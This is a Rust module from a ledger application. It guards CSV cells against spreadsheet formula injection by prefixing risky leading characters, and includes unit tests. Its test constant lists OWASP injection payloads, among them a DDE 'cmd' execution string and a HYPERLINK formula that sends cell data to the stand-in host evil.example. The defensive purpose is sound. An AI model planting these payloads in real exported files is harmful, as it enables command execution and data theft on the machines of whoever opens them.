//! Spreadsheet formula injection (OWASP "CSV injection"): the one guard every
//! CSV fundledger writes applies to its text cells — the audit trail, the
//! reconciliation report, the balance list. A cell an officer opens in Excel
//! must never run as a formula, whatever a bureau's file put in a voucher
//! number, a document number or a project name.

use std::borrow::Cow;

/// A text cell starting with `=`, `+`, `-`, `@`, tab or CR is prefixed with
/// `'`, so a spreadsheet shows it as text. Amount cells never pass through
/// here: `-5000.00` must stay a number.
pub fn guard_cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// Guards every cell of a record except the amount columns (by index).
pub fn guard_record<S: AsRef<str>>(cells: &[S], amount_columns: &[usize]) -> Vec<String> {
    cells
        .iter()
        .enumerate()
        .map(|(i, c)| {
            if amount_columns.contains(&i) {
                c.as_ref().to_string()
            } else {
                guard_cell(c.as_ref()).into_owned()
            }
        })
        .collect()
}

/// The OWASP CSV-injection payloads (and the prefixes they rely on), for
/// every writer's tests.
pub const OWASP_PAYLOADS: [&str; 10] = [
    "=2+3",
    "=EVIL〔2021〕1号",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+2+3",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=1+2\";=1+2",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn guards_every_owasp_payload_and_nothing_else() {
        let check = |input: &str, want: &str| assert_eq!(guard_cell(input), want, "{input:?}");
        for p in OWASP_PAYLOADS {
            check(p, &format!("'{p}"));
        }
        check("粤财社〔2021〕12号", "粤财社〔2021〕12号");
        check("GZ21032001", "GZ21032001");
        check("'=1", "'=1");
        check(" =1", " =1");
        check("", "");
    }

    #[test]
    fn amount_columns_are_never_altered() {
        let got = guard_record(&["-5000.00", "=1+2", "-1"], &[0]);
        assert_eq!(got, ["-5000.00", "'=1+2", "'-1"]);
    }
}
